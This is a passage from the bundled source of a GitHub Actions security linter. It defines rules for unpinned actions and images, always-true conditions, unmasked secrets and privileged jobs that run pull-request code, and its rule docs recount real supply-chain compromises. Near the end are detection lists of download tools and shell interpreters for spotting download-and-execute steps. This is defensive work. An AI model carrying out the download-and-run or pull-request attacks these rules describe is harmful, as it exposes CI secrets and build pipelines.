    summary: "A scope granted in a job-level `permissions:` block has no comment explaining which step needs it (`contents: read` is exempt).",
    why: "A write scope nobody can explain is never removed: when the step that needed `pull-requests: write` goes away, the grant stays, and the next compromised action in that job inherits it. Astral and zizmor document every grant next to it.",
    fix: "Add a short comment naming the step or command that needs the scope, e.g. `pull-requests: write  # gh pr comment`. The quick fix inserts the reason the inference found."
  },
  check(context) {
    const workflow = context.file.workflow;
    if (!workflow) return;
    const text = context.file.text;
    const lines = context.file.lines;
    for (const job of workflow.jobs) {
      const block = job.permissions;
      if (!block || !block.value || !isMap(block.value)) continue;
      let inferred = null;
      for (const scope of new MapView(asMap(block.value), context.file.doc).entries) {
        const level = scalarText(scope.value);
        if (level === "none" || scope.key === "contents" && level === "read") continue;
        const line = lines.lineAt(scope.keySpan.start);
        const end = lines.lineContentEnd(lines.lineAt(scope.valueSpan.end));
        const rest = text.slice(scope.valueSpan.end, end);
        const above = line > 0 ? lines.lineText(line - 1).trim() : "";
        if (/(^|\s)#/.test(rest) || above.startsWith("#")) continue;
        inferred ??= inferJobPermissions(workflow, job);
        const found = inferred.scopes.find((s) => s.scope === scope.key);
        const whats = found ? [...new Set(found.uses.map((use) => use.what))].slice(0, 3) : [];
        const fixes = whats.length > 0 && /^[ \t]*$/.test(rest) ? [
          {
            title: `Add comment \`# ${whats.join("; ")}\``,
            isPreferred: true,
            safety: "safe",
            edits: [{ span: { start: scope.valueSpan.end, end: scope.valueSpan.end }, newText: `  # ${whats.join("; ")}` }]
          }
        ] : [];
        context.report({
          span: scope.keySpan,
          message: `\`${scope.key}: ${level ?? "?"}\` in job \`${job.id}\` has no comment saying why${whats.length > 0 ? ` (it appears to be used by ${whats.map((w2) => `\`${w2}\``).join(", ")})` : ""}`,
          fixes
        });
      }
    }
  }
};

// server/src/rules/unpinned-images.ts
var DIGEST_RE = /^sha256:[0-9a-f]{64}$/i;
function scalarAt(node, path, job) {
  let current = node;
  for (const key of path) {
    const map2 = asMap(current);
    if (!map2) return null;
    const entry = mapEntries(map2, job.doc).find((candidate) => candidate.key === key);
    if (!entry) return "";
    current = entry.value;
  }
  return scalarText(current);
}
function matrixValues2(job, key, rest) {
  if (!job) return null;
  const matrixEntry = job.strategy.get("matrix");
  const matrix = asMap(matrixEntry?.value ?? null);
  if (!matrix) return null;
  const values = [];
  let found = false;
  for (const entry of mapEntries(matrix, job.doc)) {
    if (entry.key === key) {
      const seq2 = asSeq(entry.value);
      if (!seq2) return null;
      for (const item of seqItems(seq2, job.doc)) {
        const text = scalarAt(item, rest, job);
        if (text === null) return null;
        values.push(text);
      }
      found = true;
    } else if (entry.key === "include") {
      for (const item of seqItems(asSeq(entry.value), job.doc)) {
        for (const row of mapEntries(asMap(item), job.doc)) {
          if (row.key !== key) continue;
          const text = scalarAt(row.value, rest, job);
          if (text === null) return null;
          values.push(text);
          found = true;
        }
      }
    }
  }
  return found ? values : null;
}
function expansions(value, job) {
  const occurrences = findExpressions(value);
  if (occurrences.length === 0) return [value];
  let results = [""];
  let cursor = 0;
  for (const occurrence of occurrences) {
    const literal = value.slice(cursor, occurrence.start);
    const ast = occurrence.parsed.ast;
    if (!occurrence.terminated || !ast) return null;
    const leaves = valueLeaves(ast);
    const options = [];
    for (const leaf of leaves) {
      if (leaf.type === "literal") {
        options.push(leaf.value === null ? "" : String(leaf.value));
        continue;
      }
      const segments = contextPathSegments(leaf);
      if (!segments || segments[0] !== "matrix" || segments.length < 2) return null;
      const values = matrixValues2(job, segments[1], segments.slice(2));
      if (!values) return null;
      options.push(...values);
    }
    if (options.length === 0) return null;
    const next = [];
    for (const prefix of results) for (const option of options) next.push(prefix + literal + option);
    if (next.length > 256) return null;
    results = next;
    cursor = occurrence.end;
  }
  return results.map((prefix) => prefix + value.slice(cursor));
}
function checkImage(ctx, where, value, span, job) {
  if (value.trim() === "") return;
  const candidates = expansions(value, job);
  if (candidates === null) {
    ctx.report({
      span,
      message: `${where} image \`${value}\` is computed from an expression, so it cannot be checked for a digest pin`,
      confidence: "low"
    });
    return;
  }
  const seen = /* @__PURE__ */ new Set();
  for (const candidate of candidates) {
    if (seen.has(candidate) || candidate.trim() === "") continue;
    seen.add(candidate);
    const image = parseImage(candidate);
    if (image.digest && DIGEST_RE.test(image.digest)) continue;
    const shown = candidate === value ? `\`${value}\`` : `\`${candidate}\` (from \`${value}\`)`;
    if (image.tag === null || image.tag === "latest") {
      ctx.report({
        span,
        message: `${where} image ${shown} ${image.tag === null ? "has no tag, so it means `:latest`" : "uses `:latest`"}, which changes whenever the image is pushed: pin it by digest (\`${image.name}@sha256:…\`)`
      });
    } else {
      ctx.report({
        span,
        message: `${where} image ${shown} is pinned to tag \`${image.tag}\`, which can be re-pushed: pin it by digest (\`${image.name}:${image.tag}@sha256:…\`)`,
        persona: "pedantic"
      });
    }
  }
}
function checkContainer(ctx, where, node, view, job) {
  const direct = spannedString(node);
  if (direct) {
    checkImage(ctx, where, direct.value, direct.span, job);
    return;
  }
  const map2 = asMap(node);
  if (!map2) return;
  const image = new MapView(map2, view.doc).string("image");
  if (image) checkImage(ctx, where, image.value, image.span, job);
}
var unpinnedImages = {
  id: "unpinned-images",
  title: "Container image not pinned by digest",
  kinds: ["workflow", "action"],
  severity: "high",
  confidence: "high",
  persona: "regular",
  online: false,
  docs: {
    summary: "A job container, service container, `docker://` step or Docker action names its image by tag (or no tag at all), so whoever can push to that tag decides what runs.",
    why: "In the 2026 Trivy compromise (CVE-2026-33634) the attacker published a malicious `trivy` 0.69.4 to GitHub Releases, GHCR and Docker Hub under the normal tags; anyone pulling by tag got the credential stealer. Only a `@sha256:` digest names fixed content.",
    fix: "Append the digest: `image: node:22@sha256:<64 hex>` (keep the tag for readers). `docker buildx imagetools inspect <image>` prints it; Dependabot and Renovate update digests."
  },
  check(ctx) {
    const file = ctx.file;
    if (file.workflow) {
      for (const job of file.workflow.jobs) {
        const container = job.container;
        if (container) checkContainer(ctx, `Job \`${job.id}\` container`, container.value, job, job);
        for (const service of job.services.entries) {
          checkContainer(ctx, `Service \`${service.key}\` of job \`${job.id}\``, service.value, job, job);
        }
      }
    }
    if (file.action) {
      const image = spannedString(file.action.image?.value ?? null);
      if (image && image.value.startsWith("docker://")) {
        checkImage(ctx, "Docker action", image.value.slice("docker://".length), image.span, null);
      }
    }
    for (const site of file.uses) {
      if (site.reference.kind !== "docker") continue;
      const span = site.exact ? { start: site.valueStart, end: site.valueStart + site.value.length } : site.entry.valueSpan;
      checkImage(ctx, `Step \`${site.step?.label ?? "uses"}\``, site.value.trim().slice("docker://".length), span, site.job);
    }
  }
};

// server/src/rules/unpinned-tools.ts
var TOOL_ACTIONS = {
  "aquasecurity/setup-trivy": { input: "version", tool: "trivy", absentIsLatest: true },
  "aquasecurity/trivy-action": { input: "version", tool: "trivy", absentIsLatest: true },
  "1password/load-secrets-action": { input: "version", tool: "1Password CLI", absentIsLatest: true },
  "1password/install-cli-action": { input: "version", tool: "1Password CLI", absentIsLatest: true },
  "reviewdog/action-setup": { input: "reviewdog_version", tool: "reviewdog", absentIsLatest: true },
  "hashicorp/setup-terraform": { input: "terraform_version", tool: "terraform", absentIsLatest: true },
  "azure/setup-helm": { input: "version", tool: "helm", absentIsLatest: true },
  "azure/setup-kubectl": { input: "version", tool: "kubectl", absentIsLatest: true },
  "goreleaser/goreleaser-action": { input: "version", tool: "goreleaser", absentIsLatest: true },
  "oven-sh/setup-bun": { input: "bun-version", tool: "bun", absentIsLatest: false },
  "golangci/golangci-lint-action": { input: "version", tool: "golangci-lint", absentIsLatest: false },
  "sigstore/cosign-installer": { input: "cosign-release", tool: "cosign", absentIsLatest: false },
  "anchore/scan-action": { input: "grype-version", tool: "grype", absentIsLatest: false },
  "astral-sh/setup-uv": { input: "version", tool: "uv", absentIsLatest: false }
};
var unpinnedTools = {
  id: "unpinned-tools",
  title: "Action downloads the latest version of a tool",
  kinds: ["workflow", "action"],
  severity: "medium",
  confidence: "high",
  persona: "regular",
  online: false,
  docs: {
    summary: "A SHA-pinned action still downloads a tool at run time; with its version input absent or `latest`, each run executes whatever was released last.",
    why: "In Trivy #2 (2026, CVE-2026-33634) the release channel of trivy was taken over: workflows that had pinned `aquasecurity/setup-trivy` or `trivy-action` to a commit still downloaded the malicious trivy 0.69.4, because the action defaulted to the latest release. `reviewdog/action-setup` (CVE-2025-30154) had the same `reviewdog_version: latest` default.",
    fix: "Set the version input to an exact release (`version: v0.69.3`, `reviewdog_version: v0.20.3`), and let Dependabot/Renovate propose updates with a cooldown."
  },
  check({ file, report: report2 }) {
    for (const { job, step } of allSteps(file)) {
      const action = stepAction(file, step);
      const tool = action && TOOL_ACTIONS[action.name];
      if (!action || !tool) continue;
      const value = input(step, tool.input);
      const entry = step.with.get(tool.input);
      const latest = value !== null && /^(latest|stable|\*|)$/i.test(value.trim().replace(/^v/, ""));
      const absent = value === null && !entry;
      if (!(latest || absent && tool.absentIsLatest || absent && !tool.absentIsLatest)) continue;
      const credentials = publishCredentials(file, job);
      const certain = latest || tool.absentIsLatest;
      report2({
        span: entry ? entry.valueSpan : action.site.entry.valueSpan,
        message: `\`${action.name}\` installs ${latest ? `\`${value.trim() || "latest"}\`` : "the latest (or the action's default)"} ${tool.tool}${absent ? ` (no \`${tool.input}:\`)` : ""}: pinning the action does not pin the tool${credentials ? `, in a job holding publish credentials (${credentials})` : ""}`,
        severity: credentials ? "high" : certain ? "medium" : "low",
        confidence: certain ? "high" : "low",
        persona: certain ? "regular" : "pedantic"
      });
    }
  }
};

// server/src/rules/unknown-step-reference.ts
var PLAIN_ID = /^[A-Za-z0-9_-]+$/;
var MAX_SUGGESTED_LENGTH = 100;
var SUGGESTION_BUDGET = 2e6;
function targetOf2(file, node, source) {
  const start = source ? valueOffsetInSource(source, file.text) : null;
  if (start === null) return { value: node.value, span: node.span, exact: false };
  return { value: node.value, span: { start, end: start + node.value.length }, exact: true };
}
function targets2(file, entry, list) {
  if (!entry || !entry.value) return [];
  const single = spannedString(entry.value);
  if (single) return [targetOf2(file, single, entry.value)];
  if (!list) return [];
  const found = [];
  for (const item of seqItems(asSeq(entry.value), file.doc)) {
    const id = spannedString(item);
    if (id) found.push(targetOf2(file, id, item));
  }
  return found;
}
function closest(wanted, known, budget) {
  const lower2 = wanted.toLowerCase();
  const sameLetters = known.byLower.get(lower2);
  if (sameLetters !== void 0) return sameLetters;
  if (wanted.length > MAX_SUGGESTED_LENGTH || budget.left <= 0) return null;
  const limit = Math.max(1, Math.min(3, Math.floor(wanted.length / 3)));
  let best = null;
  let bestDistance = limit + 1;
  for (let i = 0; i < known.list.length; i++) {
    const candidate = known.lower[i];
    budget.left -= 1;
    if (budget.left < 0) return best;
    if (candidate.length > MAX_SUGGESTED_LENGTH || Math.abs(candidate.length - lower2.length) > limit) continue;
    budget.left -= (lower2.length + 1) * (candidate.length + 1);
    const distance = editDistance(lower2, candidate, { limit });
    if (distance < bestDistance) {
      best = known.list[i];
      bestDistance = distance;
    }
  }
  return best;
}
function checkJob(ctx, job, budget) {
  const { file } = ctx;
  const top = job.steps.filter((step) => step.parallel === null);
  const laterIds = /* @__PURE__ */ new Map();
  const groupIds = /* @__PURE__ */ new Map();
  for (const step of job.steps) {
    const id = step.id?.value;
    if (id === void 0) continue;
    if (step.parallel === null) {
      if (!laterIds.has(id)) laterIds.set(id, step);
    } else if (!groupIds.has(id)) groupIds.set(id, step);
  }
  const known = { list: [], lower: [], exact: /* @__PURE__ */ new Set(), byLower: /* @__PURE__ */ new Map() };
  for (const step of top) {
    const own = step.id?.value ?? null;
    for (const [key, list] of [
      ["wait", true],
      ["cancel", false]
    ]) {
      for (const target of targets2(file, step.get(key), list)) {
        if (target.value === "" || target.value.includes("${{")) continue;
        if (known.exact.has(target.value)) continue;
        report(ctx, job, step, key, target, own, known, laterIds.get(target.value) ?? null, groupIds.get(target.value) ?? null, budget);
      }
    }
    if (own !== null && !known.exact.has(own)) {
      const lower2 = own.toLowerCase();
      known.exact.add(own);
      known.list.push(own);
      known.lower.push(lower2);
      if (!known.byLower.has(lower2)) known.byLower.set(lower2, own);
    }
  }
}
function report(ctx, job, step, key, target, own, known, later, inGroup, budget) {
  const id = target.value;
  const where = `\`${key}:\` of step ${step.name || step.id ? `\`${step.label}\`` : step.position} in job \`${job.id}\``;
  let message;
  let suggestion2 = null;
  if (own !== null && own.toLowerCase() === id.toLowerCase()) {
    message = `${where} names the step itself (\`${id}\`): a step cannot ${key === "wait" ? "wait for" : "cancel"} itself`;
  } else if (later && later !== step) {
    message = `${where} names \`${id}\`, a later step (step ${later.position}): only a step defined earlier can be ${key === "wait" ? "waited for" : "cancelled"}`;
  } else if (inGroup) {
    message = `${where} names \`${id}\`, a step inside the \`parallel:\` group at step ${inGroup.parallel?.position ?? "?"}: the group already waits for its own steps, and GitHub does not accept their ids here`;
  } else {
    suggestion2 = closest(id, known, budget);
    const hint = suggestion2 !== null ? `: did you mean \`${suggestion2}\`?` : known.list.length > 0 ? ` (ids defined before it: ${known.list.slice(0, 5).map((k) => `\`${k}\``).join(", ")}${known.list.length > 5 ? ", …" : ""})` : ": no step before it has an `id:`";
    message = `${where} names \`${id}\`, which is not the id of an earlier step${hint}`;
  }
  const fixes = suggestion2 !== null && target.exact && PLAIN_ID.test(suggestion2) ? [
    {
      title: `Change \`${id}\` to \`${suggestion2}\``,
      isPreferred: true,
      safety: "unsafe",
      edits: [{ span: target.span, newText: suggestion2 }]
    }
  ] : [];
  ctx.report({ span: target.span, message, fixes });
}
var unknownStepReference = {
  id: "unknown-step-reference",
  title: "`wait:` or `cancel:` names no earlier step of the job",
  kinds: ["workflow"],
  severity: "medium",
  confidence: "high",
  persona: "regular",
  online: false,
  docs: {
    summary: "A `wait:` or `cancel:` step names a step id that no earlier step of the job has (a typo, a later step, a step inside a `parallel:` group, or the step itself).",
    why: "Background steps (`background: true`) keep running while the job continues: `wait:` is what keeps a later step from reading a file, a cache or credentials before a background step has finished writing them, and `cancel:` is what stops a background server, tunnel or debugging session before the steps that handle secrets or publish run. An id that names no earlier step means the step you meant is neither waited for nor stopped. GitHub's own parser (`@actions/workflow-parser` 0.3.61) rejects such a reference, so the workflow fails to start once pushed; this rule reports it as you type, says why (a typo, a later step, a step inside a `parallel:` group, the step itself) and offers the closest id.",
    fix: "Name the `id:` of an earlier step of the same `steps:` list (ids are case-sensitive here). The quick fix replaces the id with the closest one defined before the step."
  },
  check(ctx) {
    const workflow = ctx.file.workflow;
    if (!workflow) return;
    const budget = { left: SUGGESTION_BUDGET };
    for (const job of workflow.jobs) checkJob(ctx, job, budget);
  }
};

// server/src/config/pin-policy.ts
function pinPolicyFor(config, reference) {
  const policies = config.policies;
  if (!policies || typeof policies !== "object" || Array.isArray(policies)) return "hash-pin";
  const table = policies;
  const owner = reference.owner.toLowerCase();
  const repo = reference.repo.toLowerCase();
  const candidates = [
    ...reference.subpath ? [`${owner}/${repo}/${reference.subpath.toLowerCase()}`] : [],
    `${owner}/${repo}`,
    `${owner}/${repo}/*`,
    `${owner}/*`,
    "*"
  ];
  const lowered = new Map(Object.entries(table).map(([pattern, policy]) => [pattern.toLowerCase(), policy]));
  for (const candidate of candidates) {
    const policy = lowered.get(candidate);
    if (policy === "any" || policy === "ref-pin" || policy === "hash-pin") return policy;
  }
  return "hash-pin";
}
function pinAllowed(config, reference) {
  const policy = pinPolicyFor(config, reference);
  if (policy === "any") return true;
  if (policy === "ref-pin") return reference.ref !== null && reference.ref !== "" && reference.refKind !== "expression";
  return false;
}

// server/src/rules/unpinned-uses.ts
var unpinnedUses = {
  id: "unpinned-uses",
  title: "Action or reusable workflow not pinned to a commit SHA",
  kinds: ["workflow", "action"],
  severity: "high",
  confidence: "high",
  persona: "regular",
  online: false,
  reads: ["online"],
  docs: {
    summary: "A remote `uses:` names a tag or branch, which its owner (or an attacker who takes over the repository) can move to other code at any time.",
    why: "In March 2025 every tag of `tj-actions/changed-files` (CVE-2025-30066) was moved to a commit that dumped the runner's memory into the build log, exposing the secrets of thousands of repositories; it came in through `reviewdog/action-setup@v1`, whose tag had been moved too (CVE-2025-30154). In 2026 the tags of `aquasecurity/trivy-action` were force-pushed the same way. Only a full commit SHA is immutable.",
    fix: "Pin to the full 40-character commit SHA and keep the version in a comment, e.g. `uses: actions/checkout@<sha> # v4.2.2`, so updaters such as Dependabot and Renovate keep it current."
  },
  check({ file, config, online, report: report2 }) {
    const snapshot = viewValue(online);
    for (const site of file.uses) {
      const reference = site.reference;
      if (reference.kind !== "remote") continue;
      const target = usesTarget(reference);
      const what = reference.isReusableWorkflow ? "reusable workflow" : "action";
      if (reference.refKind === "sha") continue;
      if (pinAllowed(config, reference)) continue;
      const plan = snapshot && reference.refKind !== "expression" ? planPin(file, site, snapshot) : null;
      const fixes = plan?.ok ? [plan.fix] : [];
      const span = refOrValueSpan(site, reference);
      if (reference.ref === null || reference.ref === "") {
        report2({
          span: site.exact ? { start: site.valueStart, end: site.valueStart + site.value.length } : site.entry.valueSpan,
          message: `\`${target}\` has no ref: name a full commit SHA, e.g. \`${target}@<40-hex sha> # vX.Y.Z\``
        });
        continue;
      }
      switch (reference.refKind) {
        case "short-sha":
          report2({
            span,
            message: `\`${target}@${reference.ref}\` uses an abbreviated SHA, which is not a pin: an attacker can push a colliding commit. Use the full 40-character SHA`,
            fixes
          });
          break;
        case "expression":
          report2({ span, message: `${what} \`${target}\` takes its ref from an expression, which cannot be pinned`, confidence: "medium" });
          break;
        case "branch-like":
          report2({
            span,
            message: `${what} \`${target}\` is pinned to \`${reference.ref}\`, a branch or tag that can move to other code: pin it to a full commit SHA`,
            fixes
          });
          break;
        default:
          report2({
            span,
            message: `${what} \`${target}\` is pinned to tag \`${reference.ref}\`, which can be moved to other code: pin it to a full commit SHA`,
            fixes
          });
      }
    }
  }
};

// server/src/rules/unredacted-secrets.ts
var unredactedSecrets = {
  id: "unredacted-secrets",
  title: "Secret parsed with fromJSON escapes log masking",
  kinds: ["workflow", "action"],
  severity: "medium",
  confidence: "high",
  persona: "regular",
  online: false,
  docs: {
    summary: "`fromJSON(secrets.X)` turns a secret into structured values whose parts the runner does not know as secrets, so they are not masked in logs.",
    why: "The runner masks the exact text of each secret. A field taken out of a JSON secret (`fromJSON(secrets.CREDS).password`) is a different string, printed in clear by any `echo`, `set -x` or error message; public build logs then leak it.",
    fix: "Store each value as its own secret, or register the parts with `::add-mask::` before anything can print them."
  },
  check({ file, report: report2 }) {
    walkFencedExpressions(file, (node, span) => {
      if (node.type !== "call" || functionKey(node) !== "fromjson" || node.args.length !== 1) return true;
      const path = contextPath(node.args[0], { computedIndexAsWildcard: true });
      if (path && path.startsWith("secrets.")) {
        report2({
          span,
          message: `\`fromJSON(${path})\` yields values the runner does not mask in logs: store each value as its own secret`
        });
      }
      return true;
    });
  }
};

// server/src/rules/unsound-condition.ts
function isSingleFence(text) {
  const found = findExpressions(text);
  return found.length === 1 && found[0].terminated && found[0].start === 0 && found[0].end === text.length;
}
var unsoundCondition = {
  id: "unsound-condition",
  title: "`if:` that is always true",
  kinds: ["workflow", "action"],
  severity: "high",
  confidence: "high",
  persona: "regular",
  online: false,
  docs: {
    summary: "An `if:` whose value is more than one `${{ }}` (a block scalar's trailing newline, text around the fence, two fences) is a string, not an expression, and every non-empty string is true.",
    why: "GitHub evaluates an `if:` as an expression only when the whole value is one `${{ }}`; otherwise it interpolates the fences into a string, which is truthy. `if: |` with a `${{ }}` inside therefore always runs the step: guards such as `github.event.pull_request.head.repo.fork == false` in front of secret-using or publishing steps silently stop guarding.",
    fix: "Write the condition on one line without a fence (`if: a && b`), or use a stripping block header (`|-`, `>-`; the quick fix does that), or put all the text inside one `${{ }}`."
  },
  check({ file, report: report2 }) {
    for (const { entry, owner } of conditions(file)) {
      const scalar = asScalar(entry.value);
      if (!scalar || typeof scalar.value !== "string") continue;
      const value = scalar.value;
      if (!value.includes("${{") || isSingleFence(value)) continue;
      const fixes = [];
      const block = scalar.type === "BLOCK_LITERAL" || scalar.type === "BLOCK_FOLDED";
      if (block && isSingleFence(trimEndOf(value, "\n"))) {
        const header = /^([|>])([1-9]?)([+-]?)([1-9]?)/.exec(file.text.slice(entry.valueSpan.start, entry.valueSpan.start + 4));
        if (header) {
          fixes.push({
            title: `Strip the trailing newline (\`${header[1]}-\`)`,
            isPreferred: true,
            safety: "safe",
            edits: [
              {
                span: { start: entry.valueSpan.start, end: entry.valueSpan.start + header[0].length },
                newText: `${header[1]}${header[2] || header[4]}-`
              }
            ]
          });
        }
      }
      const reason = block && fixes.length > 0 ? "the block scalar keeps a trailing newline" : "it has text outside its `${{ }}`";
      report2({
        span: entry.valueSpan,
        message: `The \`if:\` of ${owner} is always true: ${reason}, so GitHub reads it as a non-empty string instead of evaluating the condition`,
        fixes
      });
    }
  }
};

// server/src/rules/unsound-contains.ts
var CONTROLLABLE = [/^env\./, /^inputs\./, /^github\.(actor|base_ref|head_ref|ref|ref_name|sha|triggering_actor)$/];
var unsoundContains = {
  id: "unsound-contains",
  title: "`contains()` with a literal string as the haystack",
  kinds: ["workflow", "action"],
  severity: "high",
  confidence: "high",
  persona: "regular",
  online: false,
  docs: {
    summary: "`contains('refs/heads/main refs/heads/release', github.ref)` is a substring test, so any value that is a substring of the literal (`refs/heads/m`, `main`, an empty string) passes.",
    why: "People write `contains('a b c', x)` meaning \"x is one of a, b, c\". A branch named `refs/heads/mai` or an input of `a` satisfies it, which turns branch or actor guards in front of deployments and secret use into formalities.",
    fix: 'Use an array: `contains(fromJSON(\'["refs/heads/main", "refs/heads/release"]\'), github.ref)`, or explicit comparisons joined with `||`.'
  },
  check({ file, report: report2 }) {
    for (const expression of evaluatedExpressions(file)) {
      if (!/contains/i.test(expression.text)) continue;
      const ast = expression.parsed.ast;
      if (!ast || !expression.exact) continue;
      walkExpression(ast, (node) => {
        if (node.type !== "call" || node.name.toLowerCase() !== "contains" || node.args.length !== 2) return;
        const [haystack, needle] = node.args;
        if (haystack.type !== "literal" || haystack.kind !== "string") return;
        const path = contextPath(needle, { caseInsensitive: true });
        if (!path) return;
        const controllable = CONTROLLABLE.some((pattern) => pattern.test(path));
        report2({
          span: { start: node.start, end: node.end },
          message: `\`contains('${String(haystack.value)}', ${path})\` tests whether \`${path}\` is a substring of the literal, not whether it is one of its words${controllable ? `; \`${path}\` can be chosen to pass` : ""}`,
          severity: controllable ? "high" : "informational"
        });
      });
    }
  }
};

// server/src/rules/unsound-ternary.ts
function unwrap2(node) {
  while (node.type === "group") node = node.expr;
  return node;
}
function isFalsyLiteral(node) {
  const inner = unwrap2(node);
  if (inner.type !== "literal") return false;
  return inner.value === false || inner.value === null || inner.value === "" || inner.value === 0;
}
var unsoundTernary = {
  id: "unsound-ternary",
  title: "`cond && <falsy> || other` never yields the falsy value",
  kinds: ["workflow", "action"],
  severity: "low",
  confidence: "high",
  persona: "regular",
  online: false,
  docs: {
    summary: "The `a && b || c` idiom returns `c` whenever `b` is falsy, so `cond && '' || 'x'` or `cond && false || true` always gives the right-hand side.",
    why: "Expressions have no ternary operator before `case()`; the `&&`/`||` idiom is everywhere, and with a falsy middle value it silently inverts: `${{ github.event_name == 'push' && false || true }}` is always `true`, so a flag meant to be off for pushes (a dry run, `--no-publish`) is on.",
    fix: "Swap the branches and negate the condition (`!cond && 'x' || ''`), or use `case(cond, '', 'x')`."
  },
  check({ file, report: report2 }) {
    for (const expression of evaluatedExpressions(file)) {
      if (!expression.text.includes("&&") || !expression.text.includes("||")) continue;
      const ast = expression.parsed.ast;
      if (!ast || !expression.exact) continue;
      walkExpression(ast, (node) => {
        if (node.type !== "binary" || node.op !== "||") return;
        const left = unwrap2(node.left);
        if (left.type !== "binary" || left.op !== "&&" || !isFalsyLiteral(left.right)) return;
        const literal = unwrap2(left.right);
        const shown = literal.type === "literal" ? literal.kind === "string" ? `''` : String(literal.value) : "?";
        report2({
          span: { start: node.start, end: node.end },
          message: `\`… && ${shown} || …\` never evaluates to ${shown}: when the condition holds, ${shown} is falsy and the \`||\` branch is taken instead`
        });
      });
    }
  }
};

// server/src/rules/untrusted-checkout.ts
var TRIGGERS3 = ["pull_request_target", "workflow_run", "issue_comment"];
var untrustedCheckout = {
  id: "untrusted-checkout",
  title: "Privileged job executes pull request code",
  kinds: ["workflow"],
  severity: "high",
  confidence: "high",
  persona: "regular",
  online: false,
  docs: {
    summary: "A `pull_request_target`, `workflow_run` or `issue_comment` job checks out the pull request's head or merge commit and then runs something from it (a build tool, a script, a local action) while secrets or a write token are in reach.",
    why: 'This is the "pwn request". At spotbugs (2024) a `pull_request_target` workflow checked out `refs/pull/N/merge` and ran Maven with a maintainer PAT in the environment; the stolen PAT led to reviewdog and then to tj-actions/changed-files. PostHog (2025) ran a script from the pull request with a bot PAT that published to npm; Trivy (2026, hackerbot-claw) ran `uses: ./.github/actions/setup-go` from the checked-out pull request with an org PAT; the prt-scan wave (2026) opened mass pull requests against workflows that ran `npm install` on the head commit.',
    fix: "Build pull requests under `pull_request` (no secrets, read-only token for forks). If results must be posted back, upload them as an artifact and let a separate `workflow_run` job post them without checking out or executing anything from the pull request. If a privileged job really must look at the code, check it out into a subdirectory and only read it as data."
  },
  check({ file, report: report2 }) {
    const workflow = file.workflow;
    if (!workflow) return;
    const triggers = privilegedTriggers(workflow, TRIGGERS3);
    if (triggers.length === 0) return;
    for (const job of workflow.jobs) {
      const checkouts = untrustedCheckouts(file, workflow, job);
      for (const checkout of checkouts) {
        const executions = executionsAfter(file, job, checkout.step, checkout);
        if (executions.length === 0) continue;
        const secrets = [...new Set(secretReferences(file, job.span).map((secret) => secret.name))];
        const writes = tokenMayWrite(workflow, job);
        const reach = [
          secrets.length > 0 ? `secrets ${secrets.slice(0, 3).map((name) => `\`${name}\``).join(", ")}${secrets.length > 3 ? "…" : ""}` : null,
          writes ? "a token that can write" : null
        ].filter((part) => part !== null);
        const first = executions[0];
        const guarded = job.environment || /label|author_association|permission/i.test(scalarText(job.if?.value ?? null) ?? "");
        report2({
          span: first.span,
          message: `job \`${job.id}\` runs ${first.what} on pull request code fetched by ${checkout.how} under \`${triggers.join("`/`")}\`${reach.length > 0 ? `, with ${reach.join(" and ")} in reach` : " (the job's cache and artifacts are in reach)"}`,
          severity: reach.length > 0 ? "high" : "medium",
          confidence: guarded || checkout.inSubdirectory ? "medium" : "high",
          related: [
            { span: checkout.span, message: "pull request code checked out here" },
            ...executions.slice(1, 4).map((execution) => ({ span: execution.span, message: `also runs ${execution.what}` }))
          ]
        });
      }
    }
  }
};

// server/src/rules/unverified-download.ts
var SHELLS = /* @__PURE__ */ new Set([
  "sh",
  "bash",
  "zsh",
  "dash",
  "ksh",
  "fish",
  "python",
  "python3",
  "perl",
  "ruby",
  "node",
  "iex",
  "invoke-expression",
  "pwsh",
  "powershell",
  "eval",
  "source",
  "."
]);
var DOWNLOADERS2 = /* @__PURE__ */ new Set(["curl", "wget", "invoke-webrequest", "iwr", "invoke-restmethod", "irm", "aria2c"]);
var VERIFIERS = /^(sha256sum|sha512sum|sha1sum|shasum|b2sum|cosign|minisign|gpg|gpgv|slsa-verifier|get-filehash|certutil|openssl|sigstore|rekor-cli)$/;
var EXTRACT = /* @__PURE__ */ new Set(["tar", "unzip", "7z", "gunzip", "expand-archive", "bsdtar", "xz"]);
var FILTERS2 = /* @__PURE__ */ new Set([
  "xzcat",
  "zcat",
  "bzcat",
  "zstdcat",
  "lzcat",
  "unxz",
  "bunzip2",
  "gzip",
  "gunzip",
  "xz",
  "zstd",
  "bzip2",
  "pv",
  "cat",
  "tee"
]);
function nameOf2(command) {
  return command.name.endsWith(".exe") ? command.name.slice(0, -4) : command.name;
}
var slashed = (path) => path.replace(/\\/g, "/");
var pathOf2 = (word) => !word ? "" : slashed(word.raw.includes("\\") && !/['"]/.test(word.raw) ? word.raw : word.text);
var INSTALL = /* @__PURE__ */ new Set([
  "dpkg",
  "rpm",
  "apt",
  "apt-get",
  "yum",
  "dnf",
  "msiexec",
  "installer",
  "pip",
  "pip3",
  "sudo",
  "install",
  "mv",
  "cp",
  "start-process",
  "chmod"
]);
var PAST = {
  executes: "executed",
  extracts: "extracted",
  installs: "installed",
  "makes executable": "made executable",
  "extracts and runs": "extracted and run"
};
function urlOf(command) {
  for (const word of args(command)) if (/^https?:\/\//i.test(word.text)) return word.text;
  const uri = flagValue(command, "-Uri", "-uri");
  return uri && /^https?:/i.test(uri.text) ? uri.text : null;
}
function immutable(url) {
  return /^https:\/\/raw\.githubusercontent\.com\/[^/]+\/[^/]+\/[0-9a-f]{40}\//i.test(url) || /^https:\/\/github\.com\/[^/]+\/[^/]+\/raw\/[0-9a-f]{40}\//i.test(url);
}
function releaseAssetFile(command) {
  const output = flagValue(command, "-O", "--output");
  if (output) return output.text === "-" ? null : output.text;
  const pattern = flagValue(command, "-p", "--pattern");
  if (!pattern || /[*?[\]]/.test(pattern.text)) return null;
  const dir = flagValue(command, "-D", "--dir");
  return dir && dir.text !== "." ? `${trimEndOf(dir.text, "/")}/${pattern.text}` : pattern.text;
}
function savedFile(command, url) {
  const name = nameOf2(command);
  if (name === "gh") return releaseAssetFile(command);
  const output = name === "wget" ? flagValue(command, "-O", "--output-document") : flagValue(command, "-o", "--output", "-OutFile", "-outfile");
  if (output) return output.text === "-" ? null : output.text;
  const list = args(command);
  const combined = list.findIndex((word) => (name === "wget" ? /^-[a-zA-Z]*O$/ : /^-[a-zA-Z]*o$/).test(word.text));
  if (combined >= 0 && list[combined + 1]) return list[combined + 1].text === "-" ? null : list[combined + 1].text;
  const remote = name === "curl" ? args(command).some((word) => /^-[a-zA-Z]+$/.test(word.text) && word.text.includes("O") || word.text === "--remote-name") : name === "wget";
